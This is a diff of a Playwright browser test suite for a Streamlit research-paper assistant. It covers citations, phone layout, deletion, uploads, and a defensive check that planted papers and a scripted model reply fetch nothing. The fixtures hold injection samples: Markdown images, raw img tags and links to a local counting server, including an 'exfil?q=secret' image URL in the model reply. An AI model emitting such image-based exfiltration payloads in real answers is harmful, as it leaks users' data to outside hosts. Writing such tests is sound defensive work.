@@ -1,65 +1,331 @@
-"""The app end to end in a real browser: `streamlit run` on 127.0.0.1, Debian's chromium driven by Playwright.
+"""The app end to end in a real browser: `streamlit run` on 127.0.0.1, Debian's chromium driven by Playwright's
+client, at desktop (1440x900) and phone (390x844) sizes.
 
-First run on an empty home -> load the seed corpus -> ask -> the answer's citation opens the paper with the
-passage highlighted -> upload a file through the real upload widget. Screenshots go to artifacts/.
+One server for the module, on a copy of the seed library with two planted papers whose text holds Markdown
+images pointing at a counting server on another port, and an OpenAI-compatible server (scripted) whose reply
+holds an image and raw HTML. Every page records every request it makes: a request to any other origin fails
+the test, and the counting server must see nothing. Screenshots go to artifacts/.
 """
 
 from __future__ import annotations
 
+import json
 import re
+import shutil
+from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
+from assistant.ui.browser import (
+    CHROMIUM,
+    DESKTOP,
+    PHONE,
+    QUESTION_BOX,
+    ask,
+    launch,
+    overflowing,
+    record_requests,
+    same_origin,
+    serve,
+    wait_until_idle,
+)
+from scripted_openai import pixel_server, scripted_openai
 
+from assistant import Assistant
+from assistant.claims import claims, marker_claims
+from assistant.conversations import FILE_NAME
+
+pytestmark = pytest.mark.slow
 ROOT = Path(__file__).resolve().parents[1]
-
-from assistant.ui.browser import CHROMIUM, VIEWPORT, ask, launch, serve, wait_until_idle  # noqa: E402
-
 ARTIFACTS = ROOT / "artifacts"
+QUESTION = "How does multi-agent reinforcement learning scale to many agents?"
+PLANTED_QUESTION = "How do octopus swarm robots share their sensor maps?"
 BIB = """@article{cooper2022, title={Cooperative Routing of Reviewer Experts}, author={Doe, Jane}, year={2022},
 abstract={We route each submitted paper to a few expert reviewer models and show that sparse cooperative routing
 improves assignment accuracy while reducing the number of reviews each expert must write.}}
 """
 
 
-@pytest.mark.slow
-def test_first_run_chat_citation_and_upload_in_a_browser(tmp_path: Path) -> None:
+def planted(pixel: int) -> str:
+    """Two papers whose text tries every way Markdown has to make a browser fetch something."""
+    image = f"![p](http://127.0.0.1:{pixel}/pixel.png)"
+    return "\n".join(json.dumps(record) for record in [
+        {"id": "planted-1", "title": f"Octopus swarm robots {image} http://127.0.0.1:{pixel}/title-link",
+         "abstract": f"Octopus swarm robots share their sensor maps through a gossip protocol over acoustic links. "
+                     f"{image} <img src=http://127.0.0.1:{pixel}/raw.png> Each robot merges the maps of its "
+                     f"neighbours and the swarm converges on one shared map of the reef. "
+                     f"[more](http://127.0.0.1:{pixel}/link) <http://127.0.0.1:{pixel}/auto>",
+         "url": f"http://127.0.0.1:{pixel}/landing", "year": 2023},
+        {"id": "planted-2", "title": "Sensor map sharing in octopus-inspired robot swarms",
+         "abstract": f"We study how octopus-inspired robot swarms share sensor maps. ![x](http://127.0.0.1:{pixel}/two.png) "
+                     "Swarm robots that gossip their sensor maps reach consensus faster than robots that broadcast.",
+         "doi": "10.1000/octo.2", "year": 2022},
+    ])
+
+
+@pytest.fixture(scope="module")
+def site(seeded_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
     if not CHROMIUM.exists():
         pytest.skip(f"no chromium at {CHROMIUM} (apt-get install chromium)")
-    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-    expect = sync_api.expect
+    pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
     ARTIFACTS.mkdir(exist_ok=True)
-    home = tmp_path / "home"
-    with serve(home, {"LITASSIST_LLM_PROVIDER": "offline"}, log=ARTIFACTS / "ui-browser-server.log") as url, \
-            sync_api.sync_playwright() as playwright:
-        browser = launch(playwright)
-        try:
-            page = browser.new_page(viewport=VIEWPORT)
-            page.goto(url)
-            page.get_by_role("button", name=re.compile("load the seed corpus", re.I)).click()
-            sidebar = page.locator("[data-testid='stSidebar']")
-            expect(sidebar.get_by_text(re.compile(r"^179 papers ·"))).to_be_visible(timeout=300_000)
+    home = tmp_path_factory.mktemp("browser") / "home"
+    shutil.copytree(seeded_home, home)
+    (home / FILE_NAME).unlink(missing_ok=True)  # conversations other tests saved in the shared library
+    with pixel_server() as (pixel, hits):
+        papers = home.parent / "planted.jsonl"
+        papers.write_text(planted(pixel), encoding="utf-8")
+        assert Assistant(home=home).ingest([papers]).new == 2
+        reply = (f"Octopus swarms gossip their sensor maps [1]. ![status](http://127.0.0.1:{pixel}/exfil?q=secret) "
+                 f"<img src=\"http://127.0.0.1:{pixel}/html.png\"> [site](http://127.0.0.1:{pixel}/md-link)")
+        with scripted_openai(reply) as (base_url, model), \
+                serve(home, {"LITASSIST_LLM_PROVIDER": "offline", "OPENAI_BASE_URL": base_url},
+                      log=ARTIFACTS / "ui-browser-server.log") as url:
+            from playwright.sync_api import sync_playwright
 
-            citation = ask(page, "How does multi-agent reinforcement learning scale?")
-            expect(page.get_by_text(re.compile(r"^offline · extractive"))).to_be_visible()
-            title_start = citation.inner_text().split("] ", 1)[1].rstrip("…")
-            citation.click()
-            panel = page.locator(".st-key-sources-chat")
-            expect(panel.locator("h4")).to_contain_text(title_start, timeout=30_000)
-            expect(panel.locator("mark").first).to_be_visible()
-            page.screenshot(path=str(ARTIFACTS / "ui-chat.png"))
+            with sync_playwright() as playwright:
+                browser = launch(playwright)
+                try:
+                    yield {"url": url, "home": home, "browser": browser, "hits": hits, "model": model}
+                finally:
+                    browser.close()
+    assert hits == [], f"the browser fetched from the planted server: {hits}"
 
-            page.get_by_role("tab", name=re.compile("Library")).click()
-            upload = tmp_path / "reviewers.bib"
-            upload.write_text(BIB, encoding="utf-8")
-            page.locator("input[type='file']").set_input_files(str(upload))
-            expect(page.get_by_text("reviewers.bib")).to_be_visible(timeout=30_000)
-            page.get_by_role("button", name=re.compile("Add to library")).click()
-            wait_until_idle(page)
-            new = page.locator("[data-testid='stMetric']").filter(has_text="New")
-            expect(new).to_contain_text("1", timeout=60_000)
-            expect(sidebar.get_by_text(re.compile(r"^180 papers ·"))).to_be_visible()
-            page.screenshot(path=str(ARTIFACTS / "ui-library.png"))
-        finally:
-            browser.close()
-    assert (home / "uploads" / "reviewers.bib").read_text(encoding="utf-8") == BIB
+
+@pytest.fixture()
+def page(site: dict, request: pytest.FixtureRequest) -> Iterator:
+    """A fresh page (a new session) at the size the test names; fails if it requested anything off-origin."""
+    viewport = PHONE if "phone" in request.node.name else DESKTOP
+    page = site["browser"].new_page(viewport=viewport)
+    requests = record_requests(page)
+    page.goto(site["url"])
+    page.get_by_placeholder(QUESTION_BOX).wait_for(timeout=180_000)
+    wait_until_idle(page)
+    yield page
+    foreign = sorted({r for r in requests if not same_origin(r, site["url"])})
+    page.close()
+    assert foreign == [], f"requests beyond the app's origin: {foreign}"
+    assert site["hits"] == [], f"the browser fetched from the planted server: {site['hits']}"
+
+
+def open_conversation_id(page) -> str:
+    return parse_qs(urlsplit(page.url).query)["c"][0]
+
+
+def in_view(page, locator) -> bool:
+    """Whether the element lies wholly inside the window, once it has stopped moving (drawers slide in)."""
+    box, previous = locator.bounding_box(), None
+    for _ in range(20):
+        if box == previous:
+            break
+        page.wait_for_timeout(150)
+        previous, box = box, locator.bounding_box()
+    size = page.viewport_size
+    return bool(box) and box["x"] >= -1 and box["y"] >= -1 and box["x"] + box["width"] <= size["width"] + 1 \
+        and box["y"] + box["height"] <= size["height"] + 1
+
+
+def last_turn(home: Path, conversation_id: str):
+    return Assistant(home=home).conversation(conversation_id).turns[-1]
+
+
+def claim_marker(home: Path, conversation_id: str):
+    """(marker index, the sentences it should highlight, the turn) for a marker of the last answer whose claim
+    has a located span."""
+    turn = last_turn(home, conversation_id)
+    found = claims(turn.answer)
+    for index, marker in enumerate(marker_claims(turn.answer)):
+        if marker.claim is None:
+            continue
+        supports = [s for s in found[marker.claim].citations if s.number == marker.numbers[0]]
+        if supports and supports[0].spans:
+            return index, [span.text for span in supports[0].spans], turn
+    raise AssertionError("no claim of the answer has a located span")
+
+
+def reference(page, turn_id: int, number: int):
+    """The reference-list button of citation [number] under the answer of turn `turn_id`."""
+    return page.locator(f".st-key-answer-{turn_id}-{number} button")
+
+
+def drawer_marks(page) -> list[str]:
+    """The highlighted stretches of the paper in the open drawer, once the drawer has settled."""
+    marks = page.get_by_role("dialog").locator("mark")
+    marks.first.wait_for(timeout=30_000)
+    seen, previous = None, None
+    for _ in range(40):
+        seen = [" ".join(t.split()) for t in marks.all_inner_texts()]
+        if seen and seen == previous:
+            break
+        previous = seen
+        page.wait_for_timeout(250)
+    return seen
+
+
+def close_drawer(page) -> None:
+    page.keyboard.press("Escape")
+    page.get_by_role("dialog").wait_for(state="detached", timeout=30_000)
+    wait_until_idle(page)
+
+
+def test_citations_open_the_source_with_its_sentence_and_conversations_last(page, site: dict) -> None:
+    answer_message = ask(page, QUESTION, 1)
+    conversation_id = open_conversation_id(page)
+    index, sentences, turn = claim_marker(site["home"], conversation_id)
+    answer = turn.answer
+    marker = answer_message.locator(f'button.la-cite[data-marker="{index}"]')
+    number = int(marker.get_attribute("data-number"))
+    cited = next(c for c in answer.citations if c.number == number)
+    assert marker.get_attribute("title").startswith(cited.title[:40])  # the title on hover
+
+    marker.click()  # the inline [n]: the drawer opens where the user is, the claim's own sentence marked
+    dialog = page.get_by_role("dialog")
+    assert drawer_marks(page) == [" ".join(s.split()) for s in sentences]
+    assert in_view(page, dialog.locator("h4")) and dialog.locator("h4").inner_text().startswith(cited.title[:30])
+    assert in_view(page, dialog.locator("mark").first)
+    page.screenshot(path=str(ARTIFACTS / "ui-source-desktop.png"))
+    close_drawer(page)
+
+    reference(page, turn.turn_id, number).click()  # the same paper from the reference list under the answer
+    expected = {" ".join(s.text.split()) for claim in claims(answer) for support in claim.citations
+                if support.number == number for s in support.spans}
+    assert set(drawer_marks(page)) == expected
+    close_drawer(page)
+
+    second = ask(page, "Which of them use mean field theory?", 2)
+    assert in_view(page, second.get_by_text("Answer 2 ·")) or in_view(page, second.locator("button").first)
+    assert in_view(page, page.get_by_placeholder(QUESTION_BOX))  # the input stays reachable
+
+    sidebar = page.locator("[data-testid='stSidebar']")
+    sidebar.get_by_role("button", name=re.compile("New conversation")).click()
+    page.get_by_text("Answer 1 ·").wait_for(state="detached", timeout=60_000)
+    ask(page, PLANTED_QUESTION, 1)
+    listed = sidebar.locator(".st-key-conversation-list [data-testid='stButton']")
+    assert listed.count() == 2  # newest first, each titled from its first question
+    assert PLANTED_QUESTION[:20] in listed.nth(0).inner_text() and QUESTION[:20] in listed.nth(1).inner_text()
+    listed.nth(1).get_by_role("button").first.click()  # back to the first conversation
+    page.get_by_text("Answer 2 ·").wait_for(timeout=60_000)
+    wait_until_idle(page)
+    assert open_conversation_id(page) == conversation_id and page.get_by_text(PLANTED_QUESTION).count() == 0
+
+    page.reload()  # every turn was saved as it happened: a reload restores the open conversation and the list
+    page.get_by_text("Answer 2 ·").wait_for(timeout=120_000)
+    wait_until_idle(page)
+    page.wait_for_timeout(1000)  # the scroll to the newest turn
+    assert page.get_by_text("Answer 1 ·").count() == 1 and open_conversation_id(page) == conversation_id
+    assert listed.count() == 2 and QUESTION[:20] in listed.nth(1).inner_text()
+    page.screenshot(path=str(ARTIFACTS / "ui-conversations-after-reload.png"))
+
+
+def test_phone_sources_layout_and_nothing_overflows(page, site: dict) -> None:
+    answer_message = ask(page, QUESTION, 1)
+    assert in_view(page, page.get_by_placeholder(QUESTION_BOX))
+    assert in_view(page, answer_message.locator("button.la-cite").last) or \
+        answer_message.bounding_box()["y"] < page.viewport_size["height"]  # scrolled to the newest answer
+    assert overflowing(page) == []
+    index, sentences, _ = claim_marker(site["home"], open_conversation_id(page))
+    answer_message.locator(f'button.la-cite[data-marker="{index}"]').click()
+    dialog = page.get_by_role("dialog")
+    assert drawer_marks(page) == [" ".join(s.split()) for s in sentences]
+    dialog.locator("mark").first.scroll_into_view_if_needed()
+    assert in_view(page, dialog.locator("mark").first)
+    box = dialog.bounding_box()
+    assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"] + 1  # the drawer fits the phone
+    page.screenshot(path=str(ARTIFACTS / "ui-source-phone.png"))
+    close_drawer(page)
+
+    page.get_by_role("tab", name=re.compile("Explore")).click()
+    page.locator(".la-legend").wait_for(timeout=180_000)
+    wait_until_idle(page)
+    assert page.locator(".la-legend").evaluate("e => getComputedStyle(e).display") == "flex"  # styles applied
+    assert overflowing(page) == []
+    page.screenshot(path=str(ARTIFACTS / "ui-explore-phone.png"))
+    page.get_by_role("tab", name=re.compile("Library")).click()
+    page.get_by_text("Browse").wait_for(timeout=60_000)
+    wait_until_idle(page)
+    assert overflowing(page) == []
+
+
+def test_delete_asks_to_confirm_naming_every_paper(page, site: dict) -> None:
+    page.get_by_role("tab", name=re.compile("Library")).click()
+    page.get_by_placeholder("e.g. reinforcement").fill("federated")
+    page.keyboard.press("Enter")
+    wait_until_idle(page)
+    lib = Assistant(home=site["home"])
+    shown = [p for p in lib.papers() if "federated" in " ".join([p.title, *p.authors, p.abstract,
+                                                                   p.venue or "", p.paper_id]).lower()]
+    assert len(shown) >= 2
+    page.get_by_text(f"{len(shown)} of ").wait_for(timeout=60_000)  # the filtered table is drawn
+    grid = page.locator("[data-testid='stDataFrame']").first
+    box = grid.bounding_box()
+    for row, label in ((0, "Delete 1 selected paper…"), (1, "Delete 2 selected papers…")):
+        # the row markers of the first two rows (the grid draws on a canvas: 35 px rows under a 35 px header)
+        wait_until_idle(page)
+        page.wait_for_timeout(500)  # the canvas takes clicks once drawn
+        page.mouse.click(box["x"] + 18, box["y"] + 35 + 35 * row + 17)
+        page.get_by_role("button", name=label).wait_for(timeout=60_000)
+    page.get_by_role("button", name="Delete 2 selected papers…").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_text("Delete 2 papers from the library?").wait_for(timeout=30_000)
+    listed = dialog.locator(".st-key-confirm-items").inner_text()
+    victims = [p for p in shown[:2]]
+    assert all(p.paper_id in listed for p in victims)
+    page.screenshot(path=str(ARTIFACTS / "ui-delete-confirmation.png"))
+    dialog.get_by_role("button", name=re.compile("Delete 2 papers")).click()
+    page.get_by_text(re.compile(r"^Deleted 2 papers")).wait_for(timeout=60_000)
+    remaining = {p.paper_id for p in Assistant(home=site["home"]).papers()}
+    assert not remaining & {p.paper_id for p in victims}
+
+
+def test_planted_images_and_a_model_reply_with_an_image_fetch_nothing(page, site: dict) -> None:
+    """The planted papers in an answer, in the source drawer, in search and on the map; then a model whose
+    reply holds an image, raw HTML and a link: all of it reaches the page as text."""
+    ask(page, PLANTED_QUESTION, 1)
+    turn = last_turn(site["home"], open_conversation_id(page))
+    assert {c.paper_id for c in turn.answer.citations} & {"planted-1", "planted-2"}
+    reference(page, turn.turn_id, turn.answer.citations[0].number).click()
+    page.get_by_role("dialog").locator("h4").wait_for(timeout=30_000)
+    assert page.get_by_role("dialog").locator("img").count() == 0
+    links = page.get_by_role("dialog").locator("a").evaluate_all("els => els.map(a => a.href)")
+    assert all(link.startswith(("https://doi.org/", "https://arxiv.org/", "http://127.0.0.1:")) for link in links)
+    close_drawer(page)
+
+    page.get_by_role("tab", name=re.compile("Library")).click()
+    page.get_by_placeholder("e.g. scalable multi-agent reinforcement learning").fill("octopus swarm sensor maps")
+    page.keyboard.press("Enter")
+    wait_until_idle(page)
+    page.get_by_text(re.compile(r"^1\. ")).first.click()
+    wait_until_idle(page)
+    page.get_by_role("tab", name=re.compile("Explore")).click()
+    page.locator(".la-legend").wait_for(timeout=180_000)
+    wait_until_idle(page)
+
+    page.get_by_role("tab", name=re.compile("Chat")).click()
+    sidebar = page.locator("[data-testid='stSidebar']")
+    sidebar.locator("[data-testid='stSelectbox']").filter(has_text="Provider").locator("input").click()
+    page.get_by_role("option", name="openai-compatible").click()
+    wait_until_idle(page)
+    reply = ask(page, "What do the octopus papers say?", 2)
+    text = reply.locator(".la-text").inner_text()
+    assert "![status](" in text and "<img" in text  # shown as the text it is
+    assert reply.locator("img").count() == 0 and reply.locator(".la-text a").count() == 0
+    assert site["model"].requests  # the scripted server really answered
+    page.screenshot(path=str(ARTIFACTS / "ui-injection.png"))
+
+
+def test_upload_through_the_widget(page, site: dict, tmp_path: Path) -> None:
+    before = len(Assistant(home=site["home"]).papers())
+    page.get_by_role("tab", name=re.compile("Library")).click()
+    upload = tmp_path / "reviewers.bib"
+    upload.write_text(BIB, encoding="utf-8")
+    page.locator("input[type='file']").set_input_files(str(upload))
+    page.get_by_text("reviewers.bib").wait_for(timeout=30_000)
+    page.get_by_role("button", name=re.compile("Add to library")).click()
+    wait_until_idle(page)
+    new = page.locator("[data-testid='stMetric']").filter(has_text="New")
+    new.get_by_text("1", exact=True).wait_for(timeout=60_000)
+    sidebar = page.locator("[data-testid='stSidebar']")
+    sidebar.get_by_text(re.compile(rf"^{before + 1} papers ·")).wait_for(timeout=30_000)
+    assert (site["home"] / "uploads" / "reviewers.bib").read_text(encoding="utf-8") == BIB
+    page.screenshot(path=str(ARTIFACTS / "ui-library.png"))
